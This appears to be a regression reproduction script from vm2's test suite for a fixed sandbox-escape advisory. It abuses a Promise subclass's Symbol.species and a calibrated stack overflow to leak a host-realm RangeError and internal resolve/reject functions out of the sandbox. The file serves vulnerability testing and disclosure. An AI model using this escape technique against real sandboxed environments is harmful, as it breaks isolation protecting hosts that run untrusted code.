// Source: vm2 test/ghsa/GHSA-76w7-j9cq-rx2j/repro.js (fixed after vm2 3.11.2, by 3.12.2): the swallow tail vm2's
// Promise constructor attaches used the host `then` before resetting the species, so a subclass's
// Symbol.species got V8's internal resolve/reject and the raw host RangeError of a calibrated stack
// overflow. The canonical PoC needs Promise.withResolvers (Node 22+); a stand-in is used otherwise.
// Tried: the canonical binary search, and the subclass / nested-subclass species variants.
const out = { ctInvocations: 0 };
class E extends Error {}
function so(d) {
  if (d > 0) so(d - 1);
  const e = new E();
  e.stack;
  throw e;
}
const withResolvers = () => { if (typeof Promise.withResolvers === 'function') return Promise.withResolvers(); let resolve; const promise = new Promise((r) => { resolve = r; }); return { promise, resolve }; };
let ex;
let ct;
class FakePromise extends Promise {
  static get [Symbol.species]() { return ct; }
}
function doCatch(f) {
  ex = undefined;
  const p = withResolvers();
  ct = function (e) { out.ctInvocations++; e(f, (v) => { ex = v; p.resolve(); }); };
  try { new FakePromise((r) => r()); } catch (err) { p.resolve(); }
  return Promise.race([p.promise, sleep(5)]);
}
let min = 0;
let max = 100000;
for (let rounds = 0; min < max && rounds < 40; rounds++) {
  const mid = (min + max) >> 1;
  await doCatch(() => so(mid));
  if (ex && ex.name === 'RangeError' && !(ex instanceof RangeError)) { out.hostRangeError = mid; __wr.use(ex, 'foreign RangeError'); break; }
  if (ex instanceof E) min = mid + 1;
  else max = mid;
}
out.search = [min, max];
class Fake1 extends Promise { static get [Symbol.species]() { return function (executor) { out.ctInvocations++; executor(() => {}, (e) => __wr.use(e, 'nested species')); }; } }
class Fake3 extends class Fake2 extends Fake1 {} {}
try { new Fake3((r) => r(1)); } catch (e) {}
await sleep(10);
return out;
